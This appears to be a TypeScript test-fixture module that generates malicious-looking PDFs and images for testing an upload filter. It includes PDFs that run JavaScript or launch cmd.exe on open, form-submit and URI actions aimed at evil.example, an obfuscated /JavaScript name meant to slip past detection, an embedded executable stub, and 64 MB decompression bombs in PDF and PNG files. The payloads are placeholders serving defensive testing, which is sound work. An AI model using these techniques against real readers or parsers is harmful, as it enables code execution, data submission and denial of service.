// Hostile and honest files, made by script so that no stranger's sample lies in the repository.
import { crc32, deflateSync } from "node:zlib";
import { PDFDocument, PDFHexString, PDFName, PDFString } from "pdf-lib";
import sharp from "sharp";

const utf8 = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));
export const joined = (...parts: (Uint8Array | string)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === "string" ? utf8(part) : part))));

/** A letter of `pages` pages as a plain PDF; `change` may do something to it first. */
export async function letter(
  pages = 1,
  change: (pdf: PDFDocument) => unknown = () => undefined,
  useObjectStreams = false,
): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  for (let page = 0; page < pages; page += 1) pdf.addPage([595, 842]).drawText(`Kia ora, page ${page + 1}`);
  await change(pdf);
  return pdf.save({ useObjectStreams, addDefaultPage: false });
}

const action = (pdf: PDFDocument, entries: Record<string, unknown>) =>
  pdf.context.obj(entries as never) as never;

/** PDFs that do more than be read. */
export const active = {
  javascript: () => letter(1, (pdf) => pdf.addJavaScript("hello", "app.alert(1)")),
  javascriptPacked: () => letter(1, (pdf) => pdf.addJavaScript("hello", "app.alert(1)"), true),
  openAction: () =>
    letter(1, (pdf) =>
      pdf.catalog.set(
        PDFName.of("OpenAction"),
        action(pdf, { S: "JavaScript", JS: PDFString.of("app.alert(1)") }),
      ),
    ),
  launch: () =>
    letter(1, (pdf) =>
      pdf.catalog.set(PDFName.of("OpenAction"), action(pdf, { S: "Launch", F: PDFString.of("cmd.exe") })),
    ),
  openUri: () =>
    letter(1, (pdf) =>
      pdf.catalog.set(
        PDFName.of("OpenAction"),
        action(pdf, { S: "URI", URI: PDFString.of("http://evil.example") }),
      ),
    ),
  pageAction: () =>
    letter(1, (pdf) =>
      pdf
        .getPage(0)
        .node.set(
          PDFName.of("AA"),
          action(pdf, { O: { S: "URI", URI: PDFString.of("http://evil.example") } }),
        ),
    ),
  embedded: () =>
    letter(1, (pdf) => pdf.attach(utf8("MZ evil"), "evil.exe", { mimeType: "application/x-msdownload" })),
  submit: () =>
    letter(1, (pdf) =>
      pdf.catalog.set(
        PDFName.of("Next"),
        action(pdf, { S: "SubmitForm", F: PDFString.of("http://evil.example") }),
      ),
    ),
  xfa: () =>
    letter(1, (pdf) =>
      pdf.catalog.set(
        PDFName.of("AcroForm"),
        action(pdf, { XFA: PDFHexString.fromText("<xdp/>"), Fields: [] }),
      ),
    ),
  hiddenName: async () => {
    const bytes = await letter(1, (pdf) => pdf.addJavaScript("hello", "app.alert(1)"));
    const text = Buffer.from(bytes).toString("latin1");
    // Same length, so that the cross-reference table stays right: /JS becomes /#4aS with the blank behind it gone.
    return utf8(text.replaceAll("/S /JavaScript", "/S/J#61vaScript").replaceAll("/JS (", "/JS("));
  },
} satisfies Record<string, () => Promise<Uint8Array>>;

/** A PDF that does something by itself when it is opened. */
export const openingWith = (name: string) =>
  letter(1, (pdf) =>
    pdf.catalog.set(PDFName.of("OpenAction"), action(pdf, { S: name, F: PDFString.of("evil.example") })),
  );

/** A PDF of these objects, numbered from 1, written without a library: what a library would not write. */
export function rawPdf(objects: readonly (string | { head: string; body: Uint8Array })[]): Uint8Array {
  const parts: (Uint8Array | string)[] = ["%PDF-1.7\n"];
  const starts: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [index, object] of objects.entries()) {
    starts.push(length());
    parts.push(`${index + 1} 0 obj\n`);
    if (typeof object === "string") parts.push(object);
    else
      parts.push(`<< ${object.head} /Length ${object.body.length} >>\nstream\n`, object.body, "\nendstream");
    parts.push("\nendobj\n");
  }
  const at = length();
  const rows = starts.map((start) => `${String(start).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\n`;
  return joined(...parts, table, `startxref\n${at}\n%%EOF\n`);
}

/** A PDF whose trailer says it is encrypted. */
export async function encrypted(): Promise<Uint8Array> {
  return letter(1, (pdf) => {
    pdf.context.trailerInfo.Encrypt = pdf.context.register(
      action(pdf, {
        Filter: "Standard",
        V: 1,
        R: 2,
        O: PDFHexString.of("00"),
        U: PDFHexString.of("00"),
        P: -4,
      }),
    );
  });
}

/** A stream of objects that unpacks to far more than the file holds. */
export async function packedBomb(): Promise<Uint8Array> {
  const packed = deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
  const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  return joined(head, packed, "\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n");
}

const flat = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#7a9" }, limitInputPixels: false });

/** An honest photo of each kind. */
export const photo = {
  jpeg: (width = 80, height = 60) => flat(width, height).jpeg().toBuffer(),
  png: (width = 80, height = 60) => flat(width, height).png().toBuffer(),
  webp: (width = 80, height = 60) => flat(width, height).webp().toBuffer(),
  /** Grain like a real one's, so that half of its bytes are half of the picture. */
  noisy: (format: "jpeg" | "png" | "webp") =>
    sharp({
      create: {
        width: 120,
        height: 120,
        channels: 3,
        background: "#123",
        noise: { type: "gaussian", mean: 90, sigma: 60 },
      },
    })
      .toFormat(format)
      .toBuffer(),
  /** A PNG whose comment unpacks to far more than the file holds. */
  wordy: async () => {
    const bytes = await flat(40, 40).png().toBuffer();
    const words = Buffer.concat([
      Buffer.from("zTXtComment\0\0", "latin1"),
      deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 }),
    ]);
    const size = Buffer.alloc(4);
    size.writeUInt32BE(words.length - 4);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(words));
    const afterHead = 8 + 25;
    return joined(bytes.subarray(0, afterHead), size, words, sum, bytes.subarray(afterHead));
  },
  /** With a place, a device, and turned on its side. */
  withLocation: () =>
    flat(80, 60)
      .withExif({
        IFD0: { Make: "Phone", Copyright: "CANARY-EXIF" },
        IFD3: {
          GPSLatitudeRef: "S",
          GPSLatitude: "36/1 51/1 0/1",
          GPSLongitudeRef: "E",
          GPSLongitude: "174/1 45/1 0/1",
        },
      })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><CANARY-XMP/></x:xmpmeta>')
      .jpeg()
      .toBuffer(),
  moving: async () => {
    const frame = await flat(20, 20).png().toBuffer();
    const other = await sharp({ create: { width: 20, height: 20, channels: 3, background: "#123" } })
      .png()
      .toBuffer();
    return sharp([frame, other], { join: { animated: true } })
      .webp({ loop: 0 })
      .toBuffer();
  },
};

/** Begins like a photo of an iPhone. */
export const heic = () => joined("\0\0\0\x18ftypheic\0\0\0\0mif1heic", new Uint8Array(64));
export const svg = () =>
  utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
export const html = () => utf8("<!doctype html><script>alert(1)</script>");
export const zip = () => joined("PK\x03\x04", new Uint8Array(40), "PK\x05\x06", new Uint8Array(18));
